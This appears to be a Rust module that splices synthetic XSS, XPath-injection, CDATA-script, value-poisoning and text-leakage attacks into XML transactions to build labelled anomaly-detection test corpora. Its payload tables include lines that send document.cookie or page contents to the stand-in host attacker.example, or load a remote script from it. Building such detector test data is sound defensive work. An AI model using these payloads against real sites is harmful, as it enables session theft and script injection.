//! Attack injection into clean XML transactions, for building labelled test
//! corpora with known ground truth.
//!
//! Every edit is a byte-range splice on the original text, so everything the
//! injector does not touch is preserved verbatim. Randomness comes from
//! ChaCha8 streams: the master seed selects the generator and each document
//! index selects its own stream, so results do not depend on scheduling.

use std::fmt;
use std::ops::Range;
use std::path::Path;
use std::str::FromStr;

use base64::Engine;
use percent_encoding::{utf8_percent_encode, NON_ALPHANUMERIC};
use rand::seq::index;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use rayon::prelude::*;
use roxmltree::{Document, Node};
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::artifact::{self, sha256_hex, ArtifactError};
use crate::extract::SourceDocument;
use crate::flatten::Label;
use crate::schema::{AbstractType, SchemaVector};

pub const ARTIFACT_KIND: &str = "truth";
pub const ARTIFACT_VERSION: u32 = 1;

/// Opening chapter of L. Frank Baum's "The Wonderful Wizard of Oz" (1900, public domain).
pub const BUNDLED_LEAKAGE_TEXT: &str = include_str!("../data/oz_excerpt.txt");

const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('xss')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(document.domain)>",
    "<body onload=alert('XSS')>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "\"><script>document.location='http://attacker.example/c?'+document.cookie</script>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<div style=\"background:url(javascript:alert(1))\">",
];

const XPATH_PAYLOADS: &[&str] = &[
    "' or '1'='1",
    "' or 1=1 or ''='",
    "admin' or '1'='1' or 'a'='a",
    "'] | //* | //*['",
    "' or count(/*)=1 or 'a'='b",
    "' and string-length(name(/*[1]))>0 and '1'='1",
    "x' or name()='password' or 'x'='y",
    "' or substring(//user[1]/password,1,1)='a",
];

const CDATA_SCRIPTS: [&str; 4] = [
    "<script>alert(document.cookie)</script>",
    "<script src=\"http://attacker.example/x.js\"></script>",
    "<img src=x onerror=\"fetch('http://attacker.example/?c='+document.cookie)\">",
    "<script>new Image().src='http://attacker.example/log?'+escape(document.body.innerHTML)</script>",
];

#[derive(Debug, Error)]
pub enum InjectError {
    #[error("anomaly index must lie in (0, 1], got {0}")]
    InvalidIndex(f64),
    #[error("anomalous fraction must lie in (0, 1], got {0}")]
    InvalidFraction(f64),
    #[error("no attack classes requested")]
    NoClasses,
    #[error("leakage corpus contains no sentences")]
    EmptyLeakageCorpus,
    #[error("corpus is empty")]
    EmptyCorpus,
    #[error("document `{id}` is not well-formed: {message}")]
    MalformedXml { id: String, message: String },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AttackClass {
    ValuePoisoning,
    Xss,
    CdataInjection,
    XpathInjection,
    DataLeakage,
}

impl AttackClass {
    pub const ALL: [AttackClass; 5] = [
        AttackClass::ValuePoisoning,
        AttackClass::Xss,
        AttackClass::CdataInjection,
        AttackClass::XpathInjection,
        AttackClass::DataLeakage,
    ];

    pub fn tag(self) -> &'static str {
        match self {
            AttackClass::ValuePoisoning => "value",
            AttackClass::Xss => "xss",
            AttackClass::CdataInjection => "cdata",
            AttackClass::XpathInjection => "xpath",
            AttackClass::DataLeakage => "leakage",
        }
    }

    /// Parses a comma-separated list of tags.
    pub fn parse_list(s: &str) -> Result<Vec<AttackClass>, String> {
        let mut out: Vec<AttackClass> = s
            .split(',')
            .map(str::trim)
            .filter(|t| !t.is_empty())
            .map(str::parse)
            .collect::<Result<_, _>>()?;
        out.sort();
        out.dedup();
        Ok(out)
    }
}

impl fmt::Display for AttackClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.tag())
    }
}

impl FromStr for AttackClass {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s.to_ascii_lowercase().as_str() {
            "value" | "value-poisoning" => Ok(AttackClass::ValuePoisoning),
            "xss" => Ok(AttackClass::Xss),
            "cdata" => Ok(AttackClass::CdataInjection),
            "xpath" => Ok(AttackClass::XpathInjection),
            "leakage" | "data-leakage" => Ok(AttackClass::DataLeakage),
            other => Err(format!(
                "unknown attack class `{other}` (expected value, xss, cdata, xpath or leakage)"
            )),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct InjectionSpec {
    pub anomaly_index: f64,
    pub classes: Vec<AttackClass>,
    pub seed: u64,
    /// Source text for data leakage sentences.
    pub leakage_corpus: String,
}

impl InjectionSpec {
    pub fn new(anomaly_index: f64, seed: u64) -> Self {
        InjectionSpec {
            anomaly_index,
            classes: AttackClass::ALL.to_vec(),
            seed,
            leakage_corpus: BUNDLED_LEAKAGE_TEXT.to_string(),
        }
    }

    pub fn with_classes(mut self, classes: Vec<AttackClass>) -> Self {
        self.classes = classes;
        self
    }

    fn validate(&self) -> Result<Vec<String>, InjectError> {
        if !(self.anomaly_index > 0.0 && self.anomaly_index <= 1.0) {
            return Err(InjectError::InvalidIndex(self.anomaly_index));
        }
        if self.classes.is_empty() {
            return Err(InjectError::NoClasses);
        }
        let sentences = split_sentences(&self.leakage_corpus);
        if sentences.is_empty() && self.classes.contains(&AttackClass::DataLeakage) {
            return Err(InjectError::EmptyLeakageCorpus);
        }
        Ok(sentences)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Injection {
    pub class: AttackClass,
    /// Modified element, or for CDATA the parent whose content received the section.
    pub path: String,
    pub original_sha256: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct InjectionRecord {
    pub document_id: String,
    pub label: Label,
    pub requested: usize,
    pub injections: Vec<Injection>,
    pub shortfall: bool,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct GroundTruth {
    pub seed: u64,
    pub anomaly_index: f64,
    pub fraction: f64,
    pub classes: Vec<AttackClass>,
    /// One record per document, in corpus order.
    pub records: Vec<InjectionRecord>,
}

impl GroundTruth {
    pub fn labels(&self) -> Vec<Label> {
        self.records.iter().map(|r| r.label).collect()
    }

    pub fn save(&self, path: &Path) -> Result<(), ArtifactError> {
        artifact::save(path, ARTIFACT_KIND, ARTIFACT_VERSION, self)
    }

    pub fn load(path: &Path) -> Result<Self, ArtifactError> {
        artifact::load(path, ARTIFACT_KIND, ARTIFACT_VERSION)
    }

    pub fn to_artifact(&self) -> Result<String, ArtifactError> {
        artifact::encode(ARTIFACT_KIND, ARTIFACT_VERSION, self)
    }
}

#[derive(Debug, Clone)]
pub struct LabeledCorpus {
    pub documents: Vec<SourceDocument>,
    pub truth: GroundTruth,
}

/// The generator for document `doc_index` under `seed`.
pub fn document_rng(seed: u64, doc_index: u64) -> ChaCha8Rng {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    rng.set_stream(doc_index);
    rng
}

pub fn split_sentences(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        current.push(c);
        if matches!(c, '.' | '!' | '?') {
            if chars.peek() == Some(&'"') {
                current.push(chars.next().unwrap_or('"'));
            }
            if chars.peek().is_none_or(|n| n.is_whitespace()) {
                let s = current.split_whitespace().collect::<Vec<_>>().join(" ");
                if !s.is_empty() {
                    out.push(s);
                }
                current.clear();
            }
        }
    }
    let tail = current.split_whitespace().collect::<Vec<_>>().join(" ");
    if !tail.is_empty() {
        out.push(tail);
    }
    out
}

fn escape_text(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

fn node_path(node: Node) -> String {
    let mut names: Vec<&str> = node
        .ancestors()
        .filter(|n| n.is_element())
        .map(|n| n.tag_name().name())
        .collect();
    names.reverse();
    let mut path = String::new();
    for n in names {
        path.push('/');
        path.push_str(n);
    }
    path
}

/// Byte range of a leaf element's content, if it has any text.
fn content_range(node: Node) -> Option<Range<usize>> {
    if node.children().any(|c| c.is_element()) {
        return None;
    }
    let first = node.first_child()?;
    let last = node.last_child()?;
    Some(first.range().start..last.range().end)
}

struct Leaf {
    path: String,
    kind: AbstractType,
    content: Range<usize>,
    text: String,
}

#[derive(Clone, Copy)]
enum Slot {
    Leaf(usize),
    /// Insertion point after an element that has a following sibling element.
    After(usize),
}

fn decimals_of(raw: &str) -> usize {
    let t = raw.trim();
    if t.contains(['e', 'E']) {
        return 6;
    }
    t.split_once('.').map_or(0, |(_, frac)| {
        frac.chars().take_while(char::is_ascii_digit).count()
    })
}

fn poison_value(raw: &str, rng: &mut ChaCha8Rng) -> String {
    let value = raw
        .trim()
        .parse::<f64>()
        .ok()
        .filter(|v| v.is_finite())
        .unwrap_or(0.0);
    let magnitude = if value == 0.0 { 1.0 } else { value.abs() };
    let drawn = rng.random_range(-10.0 * magnitude..=10.0 * magnitude);
    format!("{:.*}", decimals_of(raw), drawn)
}

fn pick<'a>(table: &[&'a str], rng: &mut ChaCha8Rng) -> &'a str {
    table[rng.random_range(0..table.len())]
}

fn maybe_encoded(payload: &str, rng: &mut ChaCha8Rng) -> String {
    if rng.random_bool(0.5) {
        utf8_percent_encode(payload, NON_ALPHANUMERIC).to_string()
    } else {
        payload.to_string()
    }
}

fn cdata_payload(rng: &mut ChaCha8Rng) -> String {
    let script = CDATA_SCRIPTS[rng.random_range(0..CDATA_SCRIPTS.len())];
    let encoded = base64::engine::general_purpose::STANDARD.encode(script);
    format!("<![CDATA[data:text/html;base64,{encoded}]]>")
}

/// Number of leaf elements in `xml` that the schema describes.
pub fn simple_element_count(xml: &str, schema: &SchemaVector) -> Result<usize, InjectError> {
    let doc = Document::parse(xml).map_err(|e| InjectError::MalformedXml {
        id: String::new(),
        message: e.to_string(),
    })?;
    Ok(leaves(&doc, schema).len())
}

fn leaves(doc: &Document, schema: &SchemaVector) -> Vec<Leaf> {
    doc.descendants()
        .filter(|n| n.is_element() && !n.children().any(|c| c.is_element()))
        .filter_map(|n| {
            let path = node_path(n);
            let d = &schema.descriptors[schema.position(&path)?];
            let content = content_range(n).unwrap_or(n.range().end..n.range().end);
            Some(Leaf {
                text: n.text().unwrap_or_default().to_string(),
                path,
                kind: d.abstract_type,
                content,
            })
        })
        .collect()
}

fn target_count(anomaly_index: f64, elements: usize) -> usize {
    // guard against 0.05 * 60 = 3.0000000000000004
    (anomaly_index * elements as f64 - 1e-9).ceil().max(0.0) as usize
}

/// Embeds `ceil(anomaly_index * simple elements)` attacks into one document.
/// A document without enough eligible targets gets as many as possible and
/// a shortfall flag.
pub fn inject_document(
    id: &str,
    xml: &str,
    schema: &SchemaVector,
    spec: &InjectionSpec,
    rng: &mut ChaCha8Rng,
) -> Result<(String, InjectionRecord), InjectError> {
    let sentences = spec.validate()?;
    inject_with(id, xml, schema, spec, &sentences, rng)
}

fn inject_with(
    id: &str,
    xml: &str,
    schema: &SchemaVector,
    spec: &InjectionSpec,
    sentences: &[String],
    rng: &mut ChaCha8Rng,
) -> Result<(String, InjectionRecord), InjectError> {
    let malformed = |e: roxmltree::Error| InjectError::MalformedXml {
        id: id.to_string(),
        message: e.to_string(),
    };
    let doc = Document::parse(xml).map_err(malformed)?;
    let leaves = leaves(&doc, schema);
    let requested = target_count(spec.anomaly_index, leaves.len());

    // Elements followed by a sibling element, and the path of their parent.
    let gaps: Vec<(usize, String)> = doc
        .descendants()
        .filter(|n| n.is_element() && n.next_sibling_element().is_some())
        .map(|n| {
            (
                n.range().end,
                n.parent_element().map(node_path).unwrap_or_default(),
            )
        })
        .collect();

    let mut candidates: Vec<(AttackClass, Slot)> = Vec::new();
    for &class in &spec.classes {
        match class {
            AttackClass::ValuePoisoning => candidates.extend(
                leaves
                    .iter()
                    .enumerate()
                    .filter(|(_, l)| l.kind == AbstractType::Numerical && !l.content.is_empty())
                    .map(|(i, _)| (class, Slot::Leaf(i))),
            ),
            AttackClass::Xss | AttackClass::XpathInjection | AttackClass::DataLeakage => candidates
                .extend(
                    leaves
                        .iter()
                        .enumerate()
                        .filter(|(_, l)| l.kind == AbstractType::String && !l.content.is_empty())
                        .map(|(i, _)| (class, Slot::Leaf(i))),
                ),
            AttackClass::CdataInjection => {
                candidates.extend((0..gaps.len()).map(|g| (class, Slot::After(g))));
            }
        }
    }

    let mut edits: Vec<(Range<usize>, String)> = Vec::new();
    let mut injections = Vec::new();
    while injections.len() < requested && !candidates.is_empty() {
        let (class, slot) = candidates.swap_remove(rng.random_range(0..candidates.len()));
        match slot {
            Slot::Leaf(i) => {
                let leaf = &leaves[i];
                let replacement = match class {
                    AttackClass::ValuePoisoning => poison_value(&leaf.text, rng),
                    AttackClass::Xss => maybe_encoded(pick(XSS_PAYLOADS, rng), rng),
                    AttackClass::XpathInjection => maybe_encoded(pick(XPATH_PAYLOADS, rng), rng),
                    AttackClass::DataLeakage => {
                        let count = rng.random_range(1..=5usize).min(sentences.len());
                        let start = rng.random_range(0..=sentences.len() - count);
                        sentences[start..start + count].join(" ")
                    }
                    AttackClass::CdataInjection => unreachable!("cdata uses gap slots"),
                };
                edits.push((leaf.content.clone(), escape_text(&replacement)));
                injections.push(Injection {
                    class,
                    path: leaf.path.clone(),
                    original_sha256: sha256_hex(leaf.text.as_bytes()),
                });
                candidates.retain(|&(_, s)| !matches!(s, Slot::Leaf(j) if j == i));
            }
            Slot::After(g) => {
                let (at, parent) = &gaps[g];
                edits.push((*at..*at, cdata_payload(rng)));
                injections.push(Injection {
                    class,
                    path: parent.clone(),
                    original_sha256: sha256_hex(b""),
                });
                candidates.retain(|&(_, s)| !matches!(s, Slot::After(h) if h == g));
            }
        }
    }

    edits.sort_by_key(|e| std::cmp::Reverse(e.0.start));
    let mut out = xml.to_string();
    for (range, text) in edits {
        out.replace_range(range, &text);
    }
    Document::parse(&out).map_err(malformed)?;

    let record = InjectionRecord {
        document_id: id.to_string(),
        label: Label::Anomalous,
        shortfall: injections.len() < requested,
        requested,
        injections,
    };
    Ok((out, record))
}

/// Injects `floor(fraction * |corpus|)` uniformly chosen documents and labels
/// them anomalous; every other document is kept verbatim and labelled normal.
pub fn make_anomalous_corpus(
    corpus: &[SourceDocument],
    schema: &SchemaVector,
    spec: &InjectionSpec,
    fraction: f64,
) -> Result<LabeledCorpus, InjectError> {
    if corpus.is_empty() {
        return Err(InjectError::EmptyCorpus);
    }
    if !(fraction > 0.0 && fraction <= 1.0) {
        return Err(InjectError::InvalidFraction(fraction));
    }
    let sentences = spec.validate()?;
    let chosen_count = (fraction * corpus.len() as f64 + 1e-9).floor() as usize;
    let mut selector = document_rng(spec.seed, u64::MAX);
    let mut chosen = vec![false; corpus.len()];
    for i in index::sample(&mut selector, corpus.len(), chosen_count) {
        chosen[i] = true;
    }

    let results: Vec<Result<(SourceDocument, InjectionRecord), InjectError>> = corpus
        .par_iter()
        .enumerate()
        .map(|(i, doc)| {
            if chosen[i] {
                let mut rng = document_rng(spec.seed, i as u64);
                let (xml, record) =
                    inject_with(&doc.id, &doc.xml, schema, spec, &sentences, &mut rng)?;
                Ok((
                    SourceDocument {
                        id: doc.id.clone(),
                        xml,
                    },
                    record,
                ))
            } else {
                Ok((
                    doc.clone(),
                    InjectionRecord {
                        document_id: doc.id.clone(),
                        label: Label::Normal,
                        requested: 0,
                        injections: Vec::new(),
                        shortfall: false,
                    },
                ))
            }
        })
        .collect();

    let mut documents = Vec::with_capacity(corpus.len());
    let mut records = Vec::with_capacity(corpus.len());
    for r in results {
        let (d, rec) = r?;
        documents.push(d);
        records.push(rec);
    }
    Ok(LabeledCorpus {
        documents,
        truth: GroundTruth {
            seed: spec.seed,
            anomaly_index: spec.anomaly_index,
            fraction,
            classes: spec.classes.clone(),
            records,
        },
    })
}
